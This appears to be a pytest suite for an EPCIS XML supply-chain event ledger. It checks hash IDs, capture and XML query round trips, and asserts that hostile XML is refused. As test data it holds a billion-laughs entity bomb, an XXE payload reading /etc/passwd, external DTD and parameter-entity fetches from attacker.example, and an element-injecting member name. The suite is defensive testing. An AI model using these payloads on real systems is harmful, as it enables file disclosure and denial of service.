"""EPCIS XML (2.0 and 1.2): hash IDs equal to the reference implementation's for the XML files,
capture through /epcis/capture stored once whichever form comes first, hostile XML refused
before anything is expanded, and query answers in XML that read back to the same events."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ledger.trace.epcis.hashid import document_digests, document_hash_ids, hash_id_of, prehash
from ledger.trace.epcis.schema import check_capture
from ledger.trace.epcis.xml.xml_binding import InvalidXml, to_document

from .helpers import login, make_client
from .test_epcis_hash import reference_hashes

XML = Path(__file__).parents[1] / "fixtures" / "epcis" / "xml"
JSON_961 = Path(__file__).parents[1] / "fixtures" / "epcis" / "Example_9.6.1-ObjectEvent.jsonld"


def ours(path: Path) -> list[str]:
    return [hash_id_of(d) for d in document_digests(to_document(path.read_bytes()), xml=True)]


NIL = "ErrorDeclarationAndCorrectiveEvent.xml"


@pytest.mark.parametrize("path", sorted(p for p in XML.glob("*.xml") if p.name != NIL), ids=lambda p: p.name)
def test_hash_ids_equal_the_reference_for_the_xml_file(path):
    ref = reference_hashes([{"xml": path.read_text()}])[0]
    assert ref and ours(path) == [h for h, _ in ref]


def test_a_nil_quantity_is_no_quantity():
    """GS1's 1.2 example with `<quantity xsi:nil="true"/>`: valid, captured, its error declaration
    kept; the reference implementation also hashes the nil attribute, and that is all that differs."""
    doc = to_document((XML / NIL).read_bytes())
    check_capture(doc)
    first = doc["epcisBody"]["eventList"][0]
    assert first["type"] == "TransformationEvent" and "quantity" not in first["inputQuantityList"][0]
    assert first["errorDeclaration"]["reason"] == "incorrect_data"
    assert first["errorDeclaration"]["correctiveEventIDs"] == ["urn:uuid:404d95fc-9457-4a51-bd6a-0bba133845a8"]
    ref = reference_hashes([{"xml": (XML / NIL).read_text()}])[0]
    quirk = "inputQuantityListquantityElementquantity{http://www.w3.org/2001/XMLSchema-instance}nil=true"
    for (_, ref_pre), event in zip(ref, doc["epcisBody"]["eventList"], strict=True):
        assert ref_pre == prehash(event, xml=True) + quirk


def test_xml_and_json_ld_of_one_document_are_the_same_events():
    # GS1's XML and JSON-LD forms of example 9.6.1: the first event is the same event; the second's
    # extension namespace is `http://ns.example.com/epcis` in the XML and `.../epcis/` in the JSON-LD,
    # so they are two events (the reference implementation gives them two hash IDs too)
    xml_ids, json_ids = ours(XML / "Example-ObjectEvent_9.6.1.xml"), document_hash_ids(json.loads(JSON_961.read_text()))
    assert xml_ids[0] == json_ids[0] and xml_ids[1] != json_ids[1]
    doc = to_document((XML / "EPCIS-1.2-with-extensions.xml").read_bytes())
    check_capture(doc)  # valid EPCIS 2.0 JSON-LD once read
    first, transformation = doc["epcisBody"]["eventList"]
    assert first["eventID"] == "urn:uuid:4f1cb2f4-2b7c-4a8a-9e7e-2f2a0f5c1d11"  # from 1.2's baseExtension
    assert first["quantityList"][0]["quantity"] == 200 and first["ilmd"] == {"tl:harvest": "2026-11-20"}
    assert first["bizStep"] == "commissioning" and first["sourceList"][0]["type"] == "owning_party"
    assert transformation["type"] == "TransformationEvent" and len(transformation["outputEPCList"]) == 2
    md = doc["epcisHeader"]["epcisMasterData"]["vocabularyList"][0]["vocabularyElementList"][0]
    assert md["children"] == ["urn:epc:id:sgln:0614141.00777.1"]


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"><EPCISBody><EventList>&lol3;</EventList></EPCISBody>
</epcis:EPCISDocument>"""
XXE = b"""<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"><EPCISBody><EventList>&x;</EventList></EPCISBody>
</epcis:EPCISDocument>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"/>"""
PARAMETER = b"""<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><d/>"""
DEEP = (
    b'<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2">'
    + b"<a>" * 5000
    + b"</a>" * 5000
    + b"</epcis:EPCISDocument>"
)


@pytest.mark.parametrize(
    "data", [BOMB, XXE, EXTERNAL_DTD, PARAMETER, DEEP, b"<unclosed>", b"", b"not xml at all"],
    ids=["billion laughs", "external entity", "external DTD", "parameter entity", "deep", "unclosed", "empty", "text"],
)  # fmt: skip
def test_hostile_or_malformed_xml_is_refused_unexpanded(data):
    with pytest.raises(InvalidXml):
        to_document(data)


@pytest.mark.parametrize("encoding", ["x-evil", "rot13", "base64", "utf-7", "hex", "zlib", "idna", "mbcs"])
def test_an_encoding_not_for_text_is_refused(encoding):
    """Found from outside: a declared encoding Python has not, or not for text, was a 500."""
    with pytest.raises(InvalidXml, match="encoding"):
        to_document(f'<?xml version="1.0" encoding="{encoding}"?><r/>'.encode())


def test_elements_beyond_the_limit_are_refused_before_more_is_built(monkeypatch):
    """Found from outside: 32 MiB of `<a/>` (8 million elements) held 2.6 GB before the document
    was refused for its root; now the count stops it (here at a limit of 1,000)."""
    from ledger.trace.epcis.xml import xml_parser

    monkeypatch.setattr(xml_parser, "MAX_ELEMENTS", 1_000)
    with pytest.raises(InvalidXml, match="more than 1,000 elements"):
        to_document(b"<r>" + b"<a/>" * 1_000 + b"</r>")


def test_a_made_prefix_is_never_one_the_document_declares():
    """Found from outside: an extension in a default namespace (urn:D) took the made-up prefix
    `ns1`, which the document had declared for urn:C: it was stored under urn:C."""
    doc = to_document(
        b'<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" xmlns:ns1="urn:C" schemaVersion="2.0"'
        b' creationDate="2026-01-01T00:00:00Z"><EPCISBody><EventList><ObjectEvent>'
        b"<eventTime>2026-01-01T00:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>"
        b"<epcList><epc>urn:epc:id:sgtin:0614141.107346.1</epc></epcList><action>OBSERVE</action>"
        b'<ext xmlns="urn:D">in D</ext><ns1:other>in C</ns1:other></ObjectEvent></EventList></EPCISBody>'
        b"</epcis:EPCISDocument>"
    )
    context = {k: v for c in doc["@context"] if isinstance(c, dict) for k, v in c.items()}
    event = doc["epcisBody"]["eventList"][0]
    named = {context[k.split(":")[0]] + ":" + k.split(":")[1]: v for k, v in event.items() if ":" in k}
    assert named == {"urn:D:ext": "in D", "urn:C:other": "in C"}, (context, event)


@pytest.fixture
def api(deployment, chain_node, tmp_path, members):
    c = make_client(deployment, chain_node, tmp_path, anchor_interval_s=0)
    return c, {who: login(c, members[who]) for who in ("producer", "auditor")}


def test_xml_capture_and_xml_answers(api):
    c, h = api
    xml = (XML / "Example-ObjectEvent_9.6.1.xml").read_bytes()
    r = c.post("/epcis/capture", content=xml, headers=h["producer"] | {"Content-Type": "application/xml"})
    assert r.status_code == 202, r.text
    job = c.get(r.headers["location"], headers=h["producer"]).json()
    assert job["success"] and job["eventIDs"] == ours(XML / "Example-ObjectEvent_9.6.1.xml")
    # the same event as JSON-LD (GS1's own JSON form): found stored, not stored again
    again = c.post("/v1/epcis/capture", content=JSON_961.read_bytes(), headers=h["producer"] |
                   {"Content-Type": "application/ld+json"})  # fmt: skip
    assert again.status_code == 201 and [e["status"] for e in again.json()["events"]] == ["duplicate", "stored"]
    # an answer in XML reads back to the same events
    r = c.get("/epcis/events", params={"perPage": 2}, headers=h["auditor"] | {"Accept": "application/xml"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/xml")
    back = to_document(r.content)
    assert [e["eventID"] for e in back["epcisBody"]["eventList"]] == job["eventIDs"]
    assert back["epcisBody"]["eventList"][1]["example:myField"] == "Example of a vendor/user extension"
    assert [hash_id_of(d) for d in document_digests(back, xml=True)] == job["eventIDs"]
    # hostile XML: a 400 problem, nothing stored
    for bad in (BOMB, XXE):
        r = c.post("/epcis/capture", content=bad, headers=h["producer"] | {"Content-Type": "application/xml"})
        assert r.status_code == 400 and r.json()["type"] == "epcisException:ValidationException"
    r = c.post("/epcis/capture", content=b"x", headers=h["producer"] | {"Content-Type": "text/csv"})
    assert r.status_code == 415 and r.json()["type"] == "epcisException:UnsupportedMediaTypeException"
    # found from outside: a member named `ex:a><bizStep>...` wrote elements of its own into XML
    # answers; such a name holds characters no IRI holds, and is refused at capture
    event = json.loads(JSON_961.read_text())["epcisBody"]["eventList"][0]
    forged = "ex:a><bizStep>urn:epcglobal:cbv:bizstep:destroying</bizStep><ex:c/"
    for name in (forged, "ex:a b", 'ex:"q"'):
        body = {"@context": ["https://ref.gs1.org/standards/epcis/2.0.0/epcis-context.jsonld", {"ex": "urn:x:"}],
                "type": "EPCISDocument", "schemaVersion": "2.0", "creationDate": "2026-01-01T00:00:00Z",
                "epcisBody": {"eventList": [event | {name: "x", "eventTime": "2026-01-02T00:00:00Z"}]}}  # fmt: skip
        r = c.post("/v1/epcis/capture", json=body, headers=h["producer"])
        assert r.status_code == 422 and "no IRI holds" in r.text, (name, r.text)


def _with_note(serial: int, value: bytes) -> bytes:
    return (
        b'<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" xmlns:ex="http://ns.example.com/epcis/"'
        b' schemaVersion="2.0" creationDate="2026-01-01T00:00:00Z"><EPCISBody><EventList><ObjectEvent>'
        b"<eventTime>2026-01-01T00:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>"
        b"<epcList><epc>urn:epc:id:sgtin:0614141.107346." + str(serial).encode() + b"</epc></epcList>"
        b"<action>OBSERVE</action><ex:note>" + value + b"</ex:note></ObjectEvent></EventList></EPCISBody>"
        b"</epcis:EPCISDocument>"
    )


def test_character_references_cost_what_plain_text_of_that_size_costs(api):
    """A value of 400,000 character references (2 MB) is captured about as fast as a 2 MB document
    of plain text, both measured here (it took ~40x as long when text was appended per reference)."""
    import time

    c, h = api
    headers = h["producer"] | {"Content-Type": "application/xml"}
    n, took = 400_000, {"plain": [], "references": []}
    for attempt in range(2):  # the best of two of each, interleaved, against a busy machine's noise
        for kind, value in (("plain", b"A" * (5 * n)), ("references", b"&#65;" * n)):
            body = _with_note(attempt * 2 + len(kind), value)
            t = time.perf_counter()
            r = c.post("/epcis/capture", content=body, headers=headers)
            took[kind].append(time.perf_counter() - t)
            assert r.status_code == 202, r.text[:300]
    assert min(took["references"]) < 3 * min(took["plain"]), took


# GS1's 23 EPCIS XML example documents (tests/fixtures/epcis/xml/README.md says where each is from)
GS1_EXAMPLES = sorted(
    [XML / n for n in ("AssociationEventExamples.xml", "ErrorDeclarationAndCorrectiveEvent.xml",
                       "Example-ObjectEvent_9.6.1.xml", "object_event_all_possible_fields.xml")]
    + list((XML / "gs1").glob("*.xml"))
)  # fmt: skip


def test_every_gs1_xml_example_is_captured(api):
    """GS1's own XML examples, valid under GS1's XSD, are captured whole (rollback), including
    what GS1's JSON Schema is narrower about: persistentDisposition on an AggregationEvent,
    `gs1:EffectiveDoseRate`, sensor reports without a type, ILMD on an OBSERVE event, and a
    document of master data without events."""
    assert len(GS1_EXAMPLES) == 23
    c, h = api
    headers = h["producer"] | {"Content-Type": "application/xml"}
    for path in GS1_EXAMPLES:
        r = c.post("/epcis/capture", content=path.read_bytes(), headers=headers)
        assert r.status_code == 202, (path.name, r.text[:400])
        job = c.get(r.headers["location"], headers=h["producer"]).json()
        assert job["success"] and job["errors"] == [], path.name
        assert job["eventIDs"] == list(dict.fromkeys(ours(path))), path.name  # each event once
    # JSON documents are still held to GS1's JSON Schema
    one = to_document((XML / "gs1" / "Example-PersistentDisposition.xml").read_bytes())
    r = c.post("/epcis/capture", json=one, headers=h["producer"])
    assert r.status_code == 400 and "persistentDisposition" in r.text


def test_an_xml_answer_writes_no_member_name_as_it_is():
    """A stored member's name is an element's name only if XML can hold it: an absolute IRI's
    becomes its namespace's (a prefix made for it), any other is left out, never written raw."""
    from ledger.trace.epcis.xml.xml_writer import _Writer

    w = _Writer()
    for key in ("ex:ok", "https://ns.example/epcis#temp", "ex:a><bizStep>x</bizStep><ex:c/", "a b"):
        w.ext(key, {"#text": "v", "plain": "1", "x><y": "2"}, {"ex": "urn:ex:"})
    xml = "<r " + " ".join(f'xmlns:{p}="{u}"' for p, u in w.namespaces.items()) + ">" + "".join(w.out) + "</r>"
    from xml.dom.minidom import parseString

    names = [n.tagName for n in parseString(xml).documentElement.childNodes]
    assert names == ["ex:ok", "ext1:temp"] and w.namespaces["ext1"] == "https://ns.example/epcis#", xml
